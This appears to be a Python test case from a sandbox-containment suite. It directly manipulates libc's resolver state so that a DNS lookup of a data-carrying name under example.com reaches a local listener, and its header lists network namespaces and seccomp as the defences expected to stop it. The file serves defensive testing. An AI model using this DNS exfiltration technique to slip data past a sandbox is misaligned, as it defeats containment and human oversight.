# /// attack
# tries = "carries words out in a name to look up, by the C library's own resolver"
# wins = "connected"
# stopped_by = ["network namespace", "seccomp"]
# proof = {without = ["seccomp"]}
# ///
import ctypes
import socket
import struct


def attack():
    resolver = ctypes.CDLL(None)
    resolver.__res_init()
    resolver.__res_state.restype = ctypes.c_void_p
    state = resolver.__res_state()
    server = socket.inet_aton("127.0.0.1")
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", int("@UDP@")) + server
    ctypes.memmove(state, struct.pack("ii", 1, 1), 8)  # seconds and tries
    ctypes.memmove(state + 16, struct.pack("i", 1) + address, 12)
    socket.getaddrinfo("what-i-have-seen.example.com.", 80)
